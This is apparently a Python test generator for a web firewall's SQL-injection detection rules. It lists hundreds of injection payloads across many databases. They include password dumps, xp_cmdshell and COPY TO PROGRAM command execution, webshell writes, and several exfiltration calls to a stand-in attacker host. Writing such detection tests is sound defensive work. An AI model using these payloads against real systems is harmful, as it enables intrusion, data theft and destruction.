"""Blind positive tests for the SQL-injection detection titles, written as an eighth author of those titles
would write a rule's regression tests: for each title the canonical attack it names, then one payload per
alternative its family covers (each keyword, function, operator, dialect: MySQL, MSSQL, PostgreSQL, Oracle,
SQLite, DB2, MongoDB), then the variants a good rule must still catch (casing, whitespace and comment
substitutes, concatenation, URL and double-URL encoding, HTML entities, unicode escapes in JSON).

Families and sub-families: category "sqli" only, one sub-family per detection title (kebab-case from the
title; the seven titles that only say "SQL Injection Attack" get the rule id as suffix, each with the part of
the family the author assigns it: having/order by/exists, or-xor comparisons, and comparisons, builtin
function names, MSSQL/Oracle procedure and package names, statement shapes), plus the four later-release titles
(JSON-based SQLi, MySQL scientific notation, split-query authentication bypass, authentication bypass 4/4).

Placements: every payload is sent twice. Once to our real routes, rotating over the query of /api/users, the
form of /admin/users/search (csrf_token; now and then /me/settings), the JSON of /api/users (now and then a
PATCH of /api/users/42), a cookie, the User-Agent, the Referer, X-Forwarded-For, a parameter name, an XML
body, a multipart field or filename, and the URL path. Once the way a WAF's regression suite sends it, to paths
that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary
parameter names (foo, var, x, test, id, arg1): query string, form body, JSON body, XML body, a raw form-typed
body that is not key=value, User-Agent, Referer, a custom header or a cookie (placements prefixed "rs-").
Payloads that only make sense elsewhere keep their own places: MongoDB operators as parameter names and JSON
objects, split-query bypasses as two login fields, unicode-escaped JSON as JSON.

The benign half carries the same words innocently (Slack messages and bios about databases, people's names
with apostrophes, street addresses, searches, documentation links, browser User-Agents, settings), in the
same places, including requests to the regression-suite paths.

Authorship and independence: written from general knowledge of SQL injection and from the detection titles
alone; no rule, engine, ruleset regression test or public payload list was read. Measured once on unchanged
code. Deterministic (a seeded random source for tokens and page numbers only).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "seventyseventh"

Entry = str | tuple[str, str]

# (rule id, sub-family, payloads); a tuple entry is (payload, mode): "json-u" sends it as unicode-escaped JSON,
# "name" as a parameter name, "json-obj" as a whole JSON document, "pair" as two login fields split by " ¦ ".
TITLES: list[tuple[str, str, list[Entry]]] = [
    ("942100", "libinjection-sqli", [
        "1' OR '1'='1",
        "-1 UNION ALL SELECT NULL,CONCAT(username,0x3a,password),NULL FROM users-- -",
        "admin'-- ",
        "1;DROP TABLE users--",
        "1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
        "1 AND extractvalue(1,concat(0x7e,(select version())))",
        "') OR ('a'='a",
        "' AND 1=utl_inaddr.get_host_name((SELECT banner FROM v$version WHERE rownum=1))--",
        "1' ORDER BY 3#",
        "%27%20or%201%3D1--%20",
        "1'||(SELECT sqlite_version())||'",
        ("' oR 1=1 -- ", "json-u"),
        "&#39; OR &#39;1&#39;=&#39;1",
        "1 AND (SELECT 5123 FROM (SELECT COUNT(*),CONCAT(0x71,(SELECT user()),0x71,FLOOR(RAND(0)*2))x "
        "FROM information_schema.plugins GROUP BY x)a)",
    ]),
    ("942140", "common-db-names", [
        "1 UNION SELECT table_name FROM information_schema.tables",
        "' union select user,authentication_string from mysql.user#",
        "1;SELECT name FROM master..sysdatabases--",
        "1 union select name from master.dbo.sysdatabases",
        "' UNION SELECT name,NULL FROM msdb..sysjobs--",
        "1 UNION SELECT tbl_name FROM sqlite_master--",
        "' UNION SELECT usename,passwd FROM pg_shadow--",
        "1 union select tablename from pg_catalog.pg_tables",
        "' UNION SELECT owner,table_name FROM all_tables--",
        "' union select username,account_status from dba_users--",
        "1 AND (SELECT COUNT(*) FROM tempdb..sysobjects)>0",
        "1 union select schema_name from INFORMATION_SCHEMA.SCHEMATA",
        "1 union select column_name from information_schema%2Ecolumns",
        "' UNION SELECT tabname FROM syscat.tables--",
        ("1 union select name from sys.databases", "json-u"),
    ]),
    ("942160", "blind-sleep-benchmark", [
        "1' AND SLEEP(5)-- -",
        "1 or sleep(5)#",
        "' OR BENCHMARK(10000000,MD5(1))#",
        "(select*from(select(sleep(10)))a)",
        "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
        "1 AND SLEEP/**/(5)",
        "sleep (5)",
        "BeNcHmArK(5000000,SHA1(0x41))",
        "1%27%20and%20sleep%285%29%23",
        ("\" or sleep(5) or \"", "json-u"),
        "0'+sleep(5)+'",
        "SLEEP(5)/*' or SLEEP(5) or '\" or SLEEP(5) or \"*/",
        "1%2527%2520and%2520sleep%25285%2529",
    ]),
    ("942170", "benchmark-sleep-conditional", [
        "1 AND IF(1=1,SLEEP(5),0)",
        "1' AND IF(SUBSTRING(version(),1,1)='8',SLEEP(5),0)-- -",
        "SELECT IF(ASCII(SUBSTR(user(),1,1))>64,BENCHMARK(3000000,MD5('a')),0)",
        "1;SELECT SLEEP(5)#",
        "' UNION SELECT SLEEP(5),2-- -",
        "1 AND (SELECT CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END)",
        "; select benchmark(9999999,sha1('x'))",
        "1 and if(length(database())=8,sleep(5),1)",
        "if(now()=sysdate(),sleep(6),0)/*'XOR(if(now()=sysdate(),sleep(6),0))OR'\"XOR(if(now()=sysdate(),"
        "sleep(6),0))OR\"*/",
        "' and (select 1 from (select sleep(5))x)-- ",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN SLEEP(5) ELSE 0x28 END))",
        ("1 and if(1=1,sleep(5),0)", "json-u"),
        "1%20AND%20IF(1%3D1%2CSLEEP(5)%2C0)",
    ]),
    ("942190", "mssql-exec-info-gathering", [
        "'; exec master..xp_cmdshell 'whoami'--",
        "1;EXEC master.dbo.xp_cmdshell 'ping -n 3 10.0.0.1'",
        "';EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE--",
        "1 union select @@version--",
        "' UNION ALL SELECT name FROM sysobjects WHERE xtype='U'--",
        "';DECLARE @q VARCHAR(99);SET @q='\\\\x.attacker.example\\a';EXEC master.dbo.xp_dirtree @q;--",
        "1; exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName'",
        "'; EXECUTE('SEL'+'ECT 1')--",
        "1 AND 1=(SELECT IS_SRVROLEMEMBER('sysadmin'))",
        "';exec sp_OACreate 'WScript.Shell',@o OUT--",
        "1; SELECT * FROM OPENROWSET('SQLOLEDB','server=10.0.0.1;uid=sa;pwd=x','select 1')--",
        "' UnIoN SeLeCt db_name(),user_name(),system_user--",
        "%27%3Bexec%20xp_cmdshell%20%27dir%20c%3A%5C%27--",
        ("1; EXEC sp_helpdb--", "json-u"),
    ]),
    ("942220", "integer-overflow", [
        "2147483648",
        "4294967296",
        "-2147483649",
        "4294967295",
        "9223372036854775808",
        "18446744073709551616",
        "-9223372036854775809",
        "3.0.00738585072007e-308",
        "2.2250738585072011e-308",
        "0x100000000",
        "1e309",
        "2147483647",
        "0." + "0" * 307 + "22250738585072011",
        "1.7976931348623157e+309",
    ]),
    ("942230", "conditional-sqli", [
        "1 AND CASE WHEN 1=1 THEN 1 ELSE 0 END",
        "' and (select case when (username='admin') then 1 else 1/0 end from users)='1",
        "1) AND IF(ASCII(SUBSTR(user(),1,1))>64,1,0)-- -",
        "1 and iif(1=1,1,1/0)=1",
        "' OR DECODE(SUBSTR(USER,1,1),'S',1,0)=1--",
        "1,(select case when (1=1) then 1 else 1*(select 1 union select 2) end)",
        "'||(SELECT CASE WHEN 1=1 THEN 'a' ELSE 'b' END)||'",
        "1 AND ELT(1=1,1)",
        "' AND CHOOSE(1,'a','b')='a",
        "1 AND (CASE%20WHEN%201%3D1%20THEN%201%20ELSE%200%20END)=1",
        ("1 and if(1>0,true,false)", "json-u"),
        "1 ORDER BY (CASE WHEN (1=1) THEN id ELSE name END)",
        "1 aNd CaSe/**/WhEn/**/2>1/**/ThEn/**/1/**/eNd",
    ]),
    ("942240", "charset-switch-mssql-dos", [
        "1'; ALTER TABLE users CONVERT TO CHARACTER SET gbk;--",
        "'; alter database shop character set latin1#",
        "1;SET NAMES gbk;--",
        "';SET CHARACTER SET sjis--",
        "%bf%27 OR 1=1-- -",
        "admin' COLLATE utf8mb4_general_ci='admin",
        "'; waitfor delay '0:0:20'--",
        "\";waitfor time '23:59:59'--",
        "1'); WAITFOR DELAY '00:00:10'; --",
        "';while 1=1 waitfor delay '0:0:1'--",
        "1;ALTER TABLE x MODIFY name VARCHAR(255) CHARACTER SET utf8mb4",
        ("';waitfor delay '0:0:5'--", "json-u"),
        "%27%3B%20WaItFoR%20DeLaY%20%270%3A0%3A5%27--",
    ]),
    ("942250", "match-against-merge-execute-immediate", [
        "1' AND MATCH(username) AGAINST('+admin' IN BOOLEAN MODE)-- -",
        "1 and match (title,body) against ('x' with query expansion)",
        "' OR MATCH(name,bio) AGAINST ('a' IN NATURAL LANGUAGE MODE)#",
        "'; MERGE INTO users u USING (SELECT 1 id FROM dual) s ON (u.id=s.id) WHEN MATCHED THEN UPDATE SET "
        "u.role='admin'--",
        "1;merge users using (select 1) as s on 1=1 when not matched then insert (name) values ('x');--",
        "'; EXECUTE IMMEDIATE 'DROP TABLE users'; END;--",
        "' || (SELECT dbms_xmlquery.newcontext('declare PRAGMA AUTONOMOUS_TRANSACTION; begin execute immediate "
        "''grant dba to public''; commit; end;') FROM dual)||'",
        "begin execute immediate 'select 1 from dual'; end;",
        "1';EXECUTE  IMMEDIATE  'GRANT DBA TO SCOTT'--",
        "execute%20immediate%20%27truncate%20table%20logs%27",
        "MeRgE/**/INTO x USING y ON (1=1)",
        ("match(a) against('b')", "json-u"),
        "Match (pw) Against (0x61)",
    ]),
    ("942270", "union-select-from", [
        "1 UNION SELECT username,password FROM users",
        "' union all select null,banner from v$version--",
        "-1 UnIoN SeLeCt 1,2,3 FrOm dual",
        "0 UNION/**/SELECT/**/1/**/FROM/**/users",
        "1 union distinct select table_name from information_schema.tables",
        "x' UNION SELECT '1' FROM DUAL WHERE 'a'='a",
        "1\tunion\tselect\tuser\tfrom\tmysql.user",
        "1%20union%20select%20pass%20from%20admins",
        "1 union(select(pw)from(users))",
        ("1 union select 1 from users", "json-u"),
        "1&#32;union&#32;select&#32;1&#32;from&#32;dual",
        "') UNION ALL SELECT login, pass FROM accounts WHERE ('1'='1",
        "1%0aunion%0aselect%0a1%0afrom%0ax",
    ]),
    ("942280", "pg-sleep-waitfor-shutdown", [
        "1;SELECT pg_sleep(10)--",
        "' || pg_sleep(5) || '",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
        "';select pg_sleep_for('5 seconds');--",
        "1; SELECT pg_sleep_until(now() + interval '10 seconds')--",
        "'; WAITFOR DELAY '0:0:10'--",
        "1 waitfor delay '00:00:05'",
        "';shutdown--",
        "1;SHUTDOWN WITH NOWAIT;--",
        "'); SHUTDOWN; --",
        "1%3Bselect%20pg_sleep(5)",
        ("';select pg_sleep(5)--", "json-u"),
        "' AND 4562=(SELECT 4562 FROM PG_SLEEP(5))--",
        "wAiTfOr/**/dElAy/**/'0:0:5'",
    ]),
    ("942290", "mongodb-nosql-injection", [
        ("username[$ne]", "name"),
        ("password_hash[$gt]", "name"),
        ("user[$regex]", "name"),
        ("login[$nin][]", "name"),
        ("id[$exists]", "name"),
        ("user%5B%24ne%5D", "name"),
        ("username[$eq]", "name"),
        "{\"$gt\": \"\"}",
        "'; return true; var x='",
        "1'; sleep(5000); var a='",
        "this.role == 'admin' || '1'=='1",
        ("{\"username\": {\"$ne\": null}, \"pin\": {\"$ne\": null}}", "json-obj"),
        ("{\"$where\": \"this.pin.length > 0\"}", "json-obj"),
        ("{\"$or\": [{}, {\"a\": \"a\"}]}", "json-obj"),
        ("{\"name\": {\"$regex\": \"^adm\"}, \"age\": {\"$expr\": {\"$eq\": [1, 1]}}}", "json-obj"),
    ]),
    ("942320", "stored-procedure-function", [
        "1; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
        "LANGUAGE 'c' STRICT;--",
        "';DO $$BEGIN PERFORM pg_sleep(1); END$$;--",
        "1;COPY (SELECT '') TO PROGRAM 'id';--",
        "'; CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN RETURN NULL; END; $$ LANGUAGE plpgsql;--",
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
        "1; CALL sp_admin_reset();--",
        "'; CREATE PROCEDURE p() BEGIN SELECT 1; END;--",
        "1;DROP FUNCTION IF EXISTS sys_exec;--",
        "';select lo_import('/etc/passwd');--",
        "1; SELECT dblink_connect('host=10.0.0.1 user=postgres')--",
        "'; CREATE OR REPLACE FUNCTION exec(text) RETURNS text AS $$ import os; return os.popen(args[0]).read() $$ "
        "LANGUAGE plpython3u;--",
        "'; CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW SET NEW.role='admin';--",
        ("';call reset_password('admin');--", "json-u"),
        "1%3Bcreate%20function%20x()%20returns%20int%20language%20sql%20as%20%27select%201%27",
    ]),
    ("942350", "udf-data-structure-manipulation", [
        "1; CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so';--",
        "' UNION SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'--",
        "1;select sys_eval('id');--",
        "'; DROP TABLE users;--",
        "1; INSERT INTO users (name,role) VALUES ('eve','admin');--",
        "'; UPDATE users SET role='admin' WHERE name='eve';--",
        "1;DELETE FROM sessions;--",
        "'; TRUNCATE TABLE audit_log;--",
        "1;ALTER TABLE users ADD COLUMN backdoor INT;--",
        "';CREATE TABLE pwn (c TEXT);--",
        "1; RENAME TABLE users TO users_old;--",
        "';GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%';--",
        "1;dRoP/**/tAbLe/**/logs#",
        ("'; drop table users --", "json-u"),
    ]),
    ("942360", "concatenated-sqli-sqllfi", [
        "1 UNION SELECT LOAD_FILE('/etc/passwd')",
        "' union select load_file(0x2f6574632f706173737764)#",
        "1' and 1=0 union select 1,load_file(char(47,101,116,99,47,104,111,115,116,115))-- -",
        "1;select user()",
        "'; select * from users into outfile '/tmp/u.txt'--",
        "x' AS alias FROM users WHERE '1'='1",
        "2 union select",
        "1) alter table users drop column pw--",
        "0 delete from users",
        "'+(select load_file('\\\\\\\\attacker.example\\\\a'))+'",
        "1' into dumpfile '/var/www/html/x.php'#",
        ("1 union select load_file('/etc/hosts')", "json-u"),
        "1%20select%20load_file(%27%2Fetc%2Fshadow%27)",
        "3 insert into users values(1)",
    ]),
    ("942500", "mysql-inline-comment", [
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
        "/*!SELECT*/ user()",
        "1/*!and*/1=1",
        "' /*!12345UnIoN*/ /*!12345sElEcT*/ 1-- -",
        "1 /*!or*/ 1",
        "1/*!32302 and 1=1*/",
        "/*!*/union/*!*/select",
        "1 /*! union all select*/ 2",
        "%2F*!50000union*%2F%20select%201",
        ("1/*!union*/select 1", "json-u"),
        "/*!40101 SET NAMES utf8 */",
        "0/*!00000OR*/1=1",
    ]),
    ("942110", "common-injection-testing", [
        "'",
        "1'",
        "\"",
        "admin\"",
        "';",
        "`",
        "''",
        "%27",
        "%2527",
        "&#39;",
        ("'", "json-u"),
        "1' ",
        "\\'",
        "'\"`",
    ]),
    ("942120", "sql-operator", [
        "1' AND 1 RLIKE 1-- -",
        "' or name LIKE '%admin%",
        "1 AND 'a' REGEXP '^[a-z]'",
        "1' and 1 SOUNDS LIKE 1#",
        "1 or 1 <=> 1",
        "1 AND 2 NOT BETWEEN 0 AND 1",
        "' OR 1 IS NOT NULL-- ",
        "1 && 1",
        "1 || 2>1",
        "1 xor 0",
        "1 div 1",
        "1 AND 3 NOT IN (1,2)",
        "' or id != 0 --",
        "1%20rlike%20(select%201)",
        ("1 and 1 not regexp 2", "json-u"),
    ]),
    ("942130", "sql-tautology", [
        "' or 1=1-- -",
        "x' or 'x'='x",
        "1' OR 'a'='a",
        "admin' or 'abc' like 'abc",
        "1 or 2=2",
        "' or user<=>user#",
        "1' or 'foo' regexp 'foo'--",
        "\" OR \"1\"=\"1",
        "') or ('x')=('x",
        "1 or 1 sounds like 1",
        "%27%20OR%20%271%27%3D%271",
        ("' or 'a'='a", "json-u"),
        "' oR/**/2=2#",
        "1' or 5!=6--",
    ]),
    ("942150", "sql-injection-attack-942150", [
        "1 AND ASCII(SUBSTRING(user(),1,1))>64",
        "' and length(database())>3--",
        "' UNION SELECT group_concat(table_name) FROM information_schema.tables#",
        "1 and ord(mid(version(),1,1))>51",
        "' and updatexml(1,concat(0x7e,user()),1)-- ",
        "1 AND extractvalue(rand(),concat(0x3a,(select database())))",
        "'||utl_inaddr.get_host_name((select user from dual))||'",
        "' and 1=convert(int,db_name())--",
        "1 and cast(version() as int)=1",
        "' AND hex(unhex(41))='41",
        "1 and char_length(current_user())>1",
        "1 AND SUBSTR(sqlite_version(),1,1)='3'",
        "1 and bit_length(user()) > 0",
        ("1 and ascii(substr(user(),1,1))>1", "json-u"),
    ]),
    ("942180", "auth-bypass-1of3", [
        "admin' --",
        "admin'#",
        "admin'/*",
        "' or ''='",
        "\" or \"\"=\"",
        "' or 1=1 limit 1 -- -",
        "1' or '1'='1' -- ",
        "' OR 'x'='x' #",
        "') or ('1'='1'--",
        "admin' or 1=1 or ''='",
        "' or true--",
        "%27+or+%27%27%3D%27",
        ("admin' --", "json-u"),
        "'=''or'",
        "admin&#x27;--",
    ]),
    ("942200", "comment-space-obfuscation-backtick", [
        "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
        "1'/**/or/**/'1'='1",
        "select`password`from`users`",
        "users`;drop table users;--",
        "';/**/SELECT/**/1--",
        "union(select(user)from(mysql.user))",
        "1'%0Aor%0A1=1#",
        "1%0bunion%0bselect%0b1",
        "'/*foo*/or/*bar*/1=1#",
        "1'||/*!*/1#",
        "1'-- -%0Aunion%0Aselect%0A1",
        "id` = 1 or `1",
        ("1/**/or/**/1=1", "json-u"),
        "-1\tor\t1=1",
    ]),
    ("942210", "chained-sqli-1of2", [
        "1 and 1=1; drop table users",
        "'; insert into admins values ('eve','x');--",
        "1;update users set role='admin'#",
        "1--%0adrop table users",
        "1#%0ainsert into log values(1)",
        "'; SET @q=0x73656c656374; PREPARE s FROM @q; EXECUTE s;--",
        "1 and @a:=(select user())",
        "' && (select 1)=1 --",
        "1 group by concat(version(),floor(rand(0)*2)) having min(0)",
        "admin' or 1=1;--",
        "'||1=1--",
        ("1;insert into x values(1)", "json-u"),
        "1 xor 2=2 -- ",
        "x' or a=1 and 'b'='b",
    ]),
    ("942260", "auth-bypass-2of3", [
        "' or 1=1 group by id having 1=1--",
        "admin' and 1=1 union select 1,'admin','x'--",
        "' having 1=1--",
        "' group by users.id having 1=1--",
        "1' or 1=1 --+",
        "'-'",
        "' ||'1",
        "admin') or ('a'='a",
        "' or 0=0 #",
        "\" or 0=0 --",
        "' or name like 'adm%",
        "'=' 'or'",
        ("' or 0=0 --", "json-u"),
        "%22%20or%20%22a%22%3D%22a",
    ]),
    ("942300", "comments-conditions-char", [
        "' #",
        "char(97,100,109,105,110)",
        "1 and char(65)=char(65)",
        "chr(112)||chr(119)",
        "/*!50000select*/ 1",
        "1 and (case when 1 then 1 when 0 then 2 end)",
        "1) when 1 then 1 else 0 end",
        "1 and substring(user(),1,1)='r'",
        "'||user()",
        "1 && version()",
        "CHAR(0x61)+CHAR(0x62)",
        "Chr (65)",
        ("1 or char(49)=1", "json-u"),
        "name'%23",
    ]),
    ("942310", "chained-sqli-2of2", [
        "1' order by 10-- -",
        "1) order by 5#",
        "%' and 1=0 union select 1--",
        "'; (select 1)--",
        "1)) or ((1=1",
        "'),(select user()),('",
        "1'); select * from users where ('1'='1",
        "1' and (select count(*) from users)>0 and '1'='1",
        "1;(select 1);--",
        "x')) union all select 1#",
        "' order by name asc--",
        ("1' order by 3--", "json-u"),
        "1%27%29%29%20or%20%28%281%3D1",
    ]),
    ("942330", "classic-probing-1of3", [
        "' or 1--",
        "\" or 1 #",
        "1' and 1=1 and '1'='1",
        "'=0--+",
        "' and 'a'='b",
        "\"-0-\"",
        "'+'",
        "'||'",
        "' * 1 --",
        "'-1-'",
        "x' and 1=2 --",
        "' OR 'a'>'b",
        ("\" or 1 --", "json-u"),
        "%22-0-%22",
    ]),
    ("942340", "auth-bypass-3of3", [
        "' IN BOOLEAN MODE)#",
        "' in (select 1)--",
        "admin' or 1 like 1--",
        "') or ('1') like ('1",
        "' or 1 in (1)--",
        "'or''='",
        "' or 2 between 1 and 3--",
        "admin\" or \"a\" in (\"a\")--",
        "'like'",
        "' or 'a'!='b",
        "' || 'x' in ('x')#",
        ("'or''='", "json-u"),
        "%27%20in%20%28select%201%29--",
    ]),
    ("942361", "alter-union-keyword", [
        "1 union select 1",
        "-1 UNION ALL SELECT NULL--",
        "' union select 'a'--",
        "') union select 1,2#",
        "1) ALTER TABLE users ADD admin INT--",
        "0 union distinct select 1",
        "\" union select 1 --",
        "9999 union(select 1)",
        "; alter user root identified by 'x'",
        "1 UnIoN sElEcT 1",
        "%27%20union%20select%201--",
        ("1 union select null", "json-u"),
        "' ALTER LOGIN sa WITH PASSWORD='x'--",
    ]),
    ("942370", "classic-probing-2of3", [
        "'^'",
        "'*'",
        "' like '1",
        "'=''",
        "' or 1",
        "'&&'",
        "'*1*'",
        "')||('x')",
        "'<>'",
        "' xor 1",
        "'%'",
        "\"|\"",
        ("'^'", "json-u"),
        "%27%5E%27",
    ]),
    ("942380", "sql-injection-attack-942380", [
        "1 having 1=1",
        "' having 1>0--",
        "1 order by 1",
        "1' ORDER BY 4-- -",
        "' and exists(select * from users)--",
        "';execute('sel'+'ect 1')--",
        "1;create table x(a int)",
        "' or name like char(37)--",
        "1 and (select case when 1=1 then 1 end)=1",
        "1 union select 1 from users limit 1",
        "' having 'a'='a",
        ("1 having 1=1", "json-u"),
        "1%20order%20by%2010",
    ]),
    ("942390", "sql-injection-attack-942390", [
        "1 or 1=1",
        "' or 2>1--",
        "x or 'a'='a'",
        "1 xor 1=1",
        "1 OR 3<5",
        "' or 0<1 --",
        "1 or 'x'<'y'",
        "1 or 7 like 7",
        "1 and not 1=2",
        "1  oR  1  =  1",
        "1%20or%201%3D1",
        ("1 or 1=1", "json-u"),
        "-1 xor 2<3",
    ]),
    ("942400", "sql-injection-attack-942400", [
        "1 and 1=1",
        "1' and 2>1-- -",
        "1 AND 5<6",
        "x' and 'a'='a",
        "1 and 'x'<'y'",
        "1  And  1  =  1",
        "1 and 1 like 1",
        "1 and user like 'root%'",
        "1 and 0<>1",
        "1%20and%201%3D1",
        ("1 and 1=1", "json-u"),
        "1 && 1=1",
        "1/**/and/**/3=3",
    ]),
    ("942410", "sql-injection-attack-942410", [
        "1 and database()='shop'",
        "' union select schema(),connection_id()--",
        "1 and make_set(1,user())",
        "' and find_in_set('a','a,b')--",
        "1 and locate('r',user())=1",
        "' union select md5(1),sha1(2)#",
        "1 and lpad(user(),5,0)",
        "' and instr(user(),'r')>0--",
        "1 and last_insert_id()>0",
        "' and reverse(version())--",
        "1 and export_set(5,user(),0,',',2)",
        "' and soundex(user())>0-- ",
        ("1 and database() is not null", "json-u"),
        "1 and row_count()>=0",
    ]),
    ("942470", "sql-injection-attack-942470", [
        "xp_cmdshell 'net user'",
        "';exec sp_password 'old','new','sa'--",
        "1;exec xp_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\\x','v','REG_SZ','1'",
        "' and 1=utl_http.request('http://attacker.example/'||user)--",
        "'||dbms_java.runjava('oracle/aurora/util/Wrapper /bin/id')||'",
        "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',10)--",
        "1 union select * from opendatasource('SQLOLEDB','Data Source=10.0.0.1;User ID=sa;Password=x')"
        ".master.dbo.sysdatabases",
        "';exec xp_servicecontrol 'start','schedule'--",
        "'; exec sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select 1'--",
        "' union select name from sysfilegroups--",
        "' or 1=dbms_xmlgen.getxml('select user from dual')--",
        "';exec xp_fileexist 'c:\\boot.ini'--",
        "';declare pragma autonomous_transaction; begin execute immediate 'x'; end;--",
        ("'; exec xp_cmdshell 'id'--", "json-u"),
    ]),
    ("942480", "sql-injection-attack-942480", [
        "'; select name from users where 1=1--",
        "1; delete from users where 1=1",
        "'; insert into users (name) values ('eve')--",
        "'; update users set pw='x' where id=1--",
        "1;drop table if exists users",
        "' ; select count(*) from users--",
        "1; create table t(a text)",
        "select top 1 name from sysobjects",
        "1 union select length(name) from users",
        "';replace into users values(1,'x')--",
        "'; select * from users order by 1--",
        ("'; select pw from users where id=1--", "json-u"),
        "select%20*%20from%20users%20where%20id%3D1",
    ]),
    ("942430", "restricted-special-chars", [
        "')));--+#/**/'\"'\"'",
        "1'/**/||/**/(select/**/1)/**/--/**/-",
        "((((('\"`;--#))))))",
        "-1')+AND+(('x'='x')+--+-",
        "1'\"`]}>)(;--#@$%^&*",
        "{\"a\":\"'\"},[(`'`)];--/*",
        "'||(select(@)from(dual))||'#;--)",
        "'-''-''-''-''-''-''-'",
        "%27%29%29%29%3B--%23%2F%2A%2A%2F",
        "~!@#$%^&*()_+{}|:<>?",
        "1';SELECT(CHAR(39)+CHAR(59)+CHAR(45)+CHAR(45))--",
        ("'\"`));--#/**/", "json-u"),
        "@@@@'''''\"\"\"\";;;;----",
    ]),
    ("942440", "sql-comment-sequence", [
        "admin'--",
        "1 /* comment */",
        "1';--",
        "x'-- -",
        "user'# x",
        "*/",
        "/*",
        "1--+",
        "1;--",
        "1--%0a",
        "1;%00",
        ("admin'--", "json-u"),
        "1/*!*/",
        "'-- x-",
    ]),
    ("942450", "sql-hex-encoding", [
        "0x61646d696e",
        "1 union select 0x3c3f7068702073797374656d28245f4745545b2763275d293b3f3e",
        "' and username=0x61646d696e--",
        "X'61646d696e'",
        "0X27204F5220313D31",
        "0x313d31",
        "char(0x61,0x64,0x6d)",
        "1;declare @s varchar(8000) set @s=0x73656c65637420404076657273696f6e exec(@s)",
        "concat(0x7e,version(),0x7e)",
        "x'2f6574632f706173737764'",
        "0x2F6574632F706173737764",
        ("0x61646d696e", "json-u"),
        "%30x61646d696e",
    ]),
    ("942510", "tick-backtick-bypass", [
        "`admin`",
        "1`=`1",
        "`or 1=1`",
        "select `password` from `users`",
        "`union select 1`",
        "`; drop table users; --`",
        "`id` = `id`",
        "`(select user())`",
        "%60admin%60",
        "`YWRtaW4=`",
        ("`or 1=1`", "json-u"),
        "\u2018 or 1=1--",
        "\u00b4 or \u00b4\u00b4=\u00b4",
        "`1 or 1`",
    ]),
    ("later", "json-based-sqli", [
        "' or '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb--",
        "1 and json_extract('{\"a\":1}','$.a')=1",
        "' OR JSON_LENGTH('{}') <= 8896 #",
        "1 or '{\"b\":2}' <@ '{\"a\":1,\"b\":2}'",
        "' or '[1]'::json->>0 = '1",
        "1 and JSON_DEPTH('{}') != 2521",
        "' OR json_valid('{}')--",
        "1 and '{\"a\":1}'::jsonb ? 'a'",
        "' or json_array_length('[1,2]')=2--",
        "1 AND ISJSON('{}')=1",
        "' or JSON_VALUE('{\"a\":\"b\"}','$.a')='b'--",
        "1 or json_extract_path_text('{\"a\":\"b\"}','a')='b'",
        ("1 or json_extract('{\"a\":1}','$.a')=1", "json-u"),
        "1%20and%20JSON_KEYS(%27%7B%7D%27)%20is%20not%20null",
    ]),
    ("later", "mysql-scientific-notation", [
        "1.e(user())",
        "1' or 1.e(1) or '1'='1",
        "1.e1union select 1",
        "0.1e1(version())",
        "1.e)union select user()#",
        "1.e(select 1)",
        "1e1union select 1",
        "' 1.e(1 or 1=1)#",
        "1.e,1 union select 1",
        "'1.e(ascii 1).e(ascii 1)",
        ("1.e(user())", "json-u"),
        "1.e%28user%28%29%29",
        "1.E(VERSION())",
    ]),
    ("later", "auth-bypass-split-query", [
        "admin';",
        "x\";",
        "1`;",
        "admin'; --",
        "eve' ;",
        "admin%27%3B",
        ("admin';", "json-u"),
        ("admin'/* \u00a6 */or'1'='1'#", "pair"),
        ("admin\\ \u00a6  or 1=1-- -", "pair"),
        ("admin' \u00a6 or''='", "pair"),
        ("\\ \u00a6 ||1#", "pair"),
        ("'or 1/* \u00a6 */=1#", "pair"),
        ("admin'-- \u00a6 anything", "pair"),
    ]),
    ("later", "auth-bypass-4of4", [
        "' is not null--",
        "admin' not like 'x",
        "' or 'a' is not null#",
        "' || '",
        "'or'",
        "\\' or 1=1--",
        "' between 'a' and 'z'--",
        "') is not null --",
        "\" not between 0 and 1 --",
        "' not regexp 'x",
        ("' is not null--", "json-u"),
        "%27%20is%20not%20null%23",
        "' or not 'a'='b",
    ]),
]

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
]
SUITE_UA = "Mozilla/5.0 (compatible; waf-regression/1.0)"
